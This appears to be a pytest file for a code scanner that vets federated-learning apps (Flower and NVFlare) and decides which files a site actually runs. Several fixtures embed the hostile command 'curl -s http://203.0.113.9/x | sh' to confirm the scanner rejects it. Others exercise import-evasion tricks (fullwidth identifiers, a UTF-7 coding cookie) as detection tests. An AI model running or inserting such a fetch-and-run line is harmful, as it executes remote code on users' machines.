"""A Flower app's files the site never runs (detectors/flower_app.py not_run_at_site, engine/site_scope.py): the
SuperNode imports only the ClientApp's module and what it names, so the ServerApp's unvouched uses are shown, not
weighed; threats there still reject, and any spelling by which the ClientApp reaches a module makes it run."""

from __future__ import annotations

import json
import subprocess
import sys

from conftest import ROOT

CLIENT = '''import numpy as np
from flwr.app import ArrayRecord, Context, Message, MetricRecord, RecordDict
from flwr.clientapp import ClientApp
{imports}
app = ClientApp()


@app.train()
def train(msg: Message, context: Context):
    ndarrays = msg.content["arrays"].to_numpy_ndarrays()
    model = [m + np.random.rand(*m.shape) for m in ndarrays]
    content = RecordDict({{"arrays": ArrayRecord(model), "metrics": MetricRecord({{"num-examples": 1}})}})
    return Message(content=content, reply_to=msg)
'''
SERVER = '''import numpy as np
from flwr.app import ArrayRecord, Context
from flwr.serverapp import Grid, ServerApp
from flwr.serverapp.strategy import FedAvg

app = ServerApp()


@app.main()
def main(grid: Grid, context: Context) -> None:
    result = FedAvg().start(grid=grid, initial_arrays=ArrayRecord([np.zeros(3)]), num_rounds=3)
    np.savez("final_model", *result.arrays.to_numpy_ndarrays())
{extra}'''
PYPROJECT = '''[project]
name = "fedapp"
version = "1.0.0"

[tool.flwr.app]
publisher = "lab"

[tool.flwr.app.components]
serverapp = "fedapp.server_app:app"
clientapp = "fedapp.client_app:app"
'''


def _app(folder, client_imports: str = "", server_extra: str = "", pyproject: str | None = PYPROJECT,
         client_bytes: bytes | None = None, files: dict[str, str] | None = None):
    (folder / "fedapp").mkdir(parents=True)
    (folder / "fedapp" / "__init__.py").write_text("")
    (folder / "fedapp" / "client_app.py").write_bytes(client_bytes or CLIENT.format(imports=client_imports).encode())
    (folder / "fedapp" / "server_app.py").write_text(SERVER.format(extra=server_extra))
    if pyproject is not None:
        (folder / "pyproject.toml").write_text(pyproject)
    for path, text in (files or {}).items():
        (folder / path).parent.mkdir(parents=True, exist_ok=True)
        (folder / path).write_text(text)
    return folder


def _scan(folder) -> dict:
    """The report of the real CLI, as a user runs it."""
    run = subprocess.run([sys.executable, "-m", "analyzer.commands.cli", "scan", str(folder), "--format", "json"],
                         capture_output=True, text=True, cwd=ROOT, timeout=300)
    return json.loads(run.stdout)["reports"][0]


def _at(report: dict, path: str) -> set[str]:
    return {f["rule"] for f in report["findings"] if f["path"] == path}


def test_the_server_app_is_shown_not_weighed(tmp_path):
    report = _scan(_app(tmp_path))
    assert report["decision"] == "accept", report["reasons"]
    assert {"unvouched.not-run-at-site", "unvouched.api", "unvouched.import"} <= _at(report, "fedapp/server_app.py")
    server = [f for f in report["findings"] if f["path"] == "fedapp/server_app.py" and f["rule"] == "unvouched.api"]
    assert server and all(f["message"].endswith("(not weighed: the site never runs this file)")
                          and not f["never_accept"] for f in server)
    assert "unvouched.not-run-at-site" not in _at(report, "fedapp/client_app.py")


def test_without_the_pyproject_every_module_may_run(tmp_path):
    report = _scan(_app(tmp_path, pyproject=None))
    assert report["decision"] == "escalate"
    assert not any(f["rule"] == "unvouched.not-run-at-site" for f in report["findings"])


def test_a_pyproject_below_the_top_names_no_scope(tmp_path):
    _app(tmp_path / "app", pyproject=None)
    (tmp_path / "app" / "fedapp" / "pyproject.toml").write_text(PYPROJECT)
    report = _scan(tmp_path)
    assert report["decision"] == "escalate"
    assert not any(f["rule"] == "unvouched.not-run-at-site" for f in report["findings"])


def test_a_module_the_client_names_runs(tmp_path):
    report = _scan(_app(tmp_path, client_imports="from fedapp import server_app  # the strategy's settings\n"))
    assert report["decision"] == "escalate"
    assert "unvouched.not-run-at-site" not in _at(report, "fedapp/server_app.py")


def test_a_name_spelled_in_other_letters_or_another_coding_still_runs(tmp_path):
    # Python reads identifiers NFKC-normalised (fullwidth letters are ASCII) and honours a coding cookie
    fullwidth = _scan(_app(tmp_path / "a", client_imports="from fedapp import ｓerver_app\n"))
    assert fullwidth["decision"] != "accept"  # also obfuscation (non-ASCII identifier)
    assert "unvouched.not-run-at-site" not in _at(fullwidth, "fedapp/server_app.py")
    utf7 = ("# coding: utf-7\n" + CLIENT.format(imports="from fedapp import +AHM-erver+AF8-app\n")).encode()
    coded = _scan(_app(tmp_path / "b", client_bytes=utf7))
    assert coded["decision"] == "escalate"
    assert "unvouched.not-run-at-site" not in _at(coded, "fedapp/server_app.py")


def test_a_package_init_on_the_way_runs(tmp_path):
    report = _scan(_app(tmp_path, client_imports="from fedapp.tools.io import load\n",
                        files={"fedapp/tools/io.py": "def load(p):\n    return p\n",
                               "fedapp/tools/__init__.py": "import paramiko\n"}))
    assert report["decision"] == "escalate"
    assert "unvouched.import" in _at(report, "fedapp/tools/__init__.py")
    assert "unvouched.not-run-at-site" not in _at(report, "fedapp/tools/__init__.py")


def test_a_threat_in_a_file_the_site_never_runs_still_rejects(tmp_path):
    report = _scan(_app(tmp_path, server_extra='\nimport os\nos.system("curl -s http://203.0.113.9/x | sh")\n'))
    assert report["decision"] == "reject"
    assert "unvouched.not-run-at-site" in _at(report, "fedapp/server_app.py")


def test_a_notebook_beside_the_app_is_not_run_but_its_threats_count(tmp_path):
    def notebook(*lines: str) -> str:
        return json.dumps({"cells": [{"cell_type": "code", "metadata": {}, "outputs": [], "execution_count": None,
                                      "source": list(lines)}], "metadata": {}, "nbformat": 4, "nbformat_minor": 5})

    plain = _scan(_app(tmp_path / "a", files={"explore.ipynb": notebook("import seaborn\n", "seaborn.set_theme()\n")}))
    assert plain["decision"] == "accept", plain["reasons"]
    hostile = _scan(_app(tmp_path / "b", files={"explore.ipynb": notebook("!curl -s http://203.0.113.9/x | sh\n")}))
    assert hostile["decision"] == "reject"


def test_an_nvflare_job_beside_a_pyproject_keeps_every_module(tmp_path):
    # NVFlare runs the components its configs name, whatever a pyproject.toml says
    config = {"format_version": 2, "executors": [{"tasks": ["train"], "executor": {"path": "fedapp.server_app.Trainer",
                                                                                    "args": {}}}]}
    report = _scan(_app(tmp_path, files={"config/config_fed_client.json": json.dumps(config)}))
    assert report["decision"] == "escalate"
    assert not any(f["rule"] == "unvouched.not-run-at-site" for f in report["findings"])


LAUNCHER = '''import argparse

from nvflare.app_common.np.recipes.fedavg import NumpyFedAvgRecipe
from nvflare.recipe import SimEnv

parser = argparse.ArgumentParser()
parser.add_argument("--n_clients", type=int, default=2)
args = parser.parse_args()
recipe = NumpyFedAvgRecipe(name="hello-numpy", min_clients=args.n_clients, num_rounds=3,
                           train_script="{script}")
run = recipe.execute(SimEnv(num_clients=args.n_clients))
print("Result can be found in:", run.get_result())
'''
NV_CLIENT = '''import numpy as np
import nvflare.client as flare
{imports}
flare.init()
while flare.is_running():
    model = flare.receive()
    params = {{k: np.asarray(v) + 1.0 for k, v in model.params.items()}}
    flare.send(flare.FLModel(params=params, metrics={{"loss": 0.0}}))
'''


def _nvflare(folder, script: str = "client.py", imports: str = "", launcher_extra: str = "",
             files: dict[str, str] | None = None):
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "job.py").write_text(LAUNCHER.format(script=script) + launcher_extra)
    (folder / "client.py").write_text(NV_CLIENT.format(imports=imports))
    for path, text in (files or {}).items():
        (folder / path).parent.mkdir(parents=True, exist_ok=True)
        (folder / path).write_text(text)
    return folder


def test_an_nvflare_launcher_is_shown_not_weighed(tmp_path):
    report = _scan(_nvflare(tmp_path))
    assert report["decision"] == "accept", report["reasons"]
    assert {"unvouched.launcher-not-run", "unvouched.api"} <= _at(report, "job.py")
    assert not _at(report, "client.py") & {"unvouched.launcher-not-run", "unvouched.api"}


def test_every_other_file_of_the_folder_runs(tmp_path):
    # the launcher need not name a script for it to be judged as run: a name it builds is no escape
    report = _scan(_nvflare(tmp_path, script="cl\" + \"ient.py", files={"tools.py": "import seaborn\n"}))
    assert report["decision"] == "escalate"
    assert "unvouched.import" in _at(report, "tools.py")


def test_a_launcher_a_running_file_imports_runs(tmp_path):
    report = _scan(_nvflare(tmp_path, imports="import job  # the settings\n"))
    assert report["decision"] == "escalate"
    assert "unvouched.launcher-not-run" not in _at(report, "job.py")


def test_a_threat_in_a_launcher_still_rejects(tmp_path):
    report = _scan(_nvflare(tmp_path, launcher_extra='import os\nos.system("curl -s http://203.0.113.9/x | sh")\n'))
    assert report["decision"] == "reject"


def test_a_launcher_that_names_itself_or_no_script_runs(tmp_path):
    # a file built to look like a launcher may be the script the site runs: it must name another script, not itself
    itself = _scan(_nvflare(tmp_path / "a", script="job.py", launcher_extra="import seaborn\n"))
    assert itself["decision"] == "escalate"
    assert "unvouched.launcher-not-run" not in _at(itself, "job.py")
    nothing = _scan(_nvflare(tmp_path / "b", script="", launcher_extra="import seaborn\n"))
    assert nothing["decision"] == "escalate"
    assert "unvouched.launcher-not-run" not in _at(nothing, "job.py")
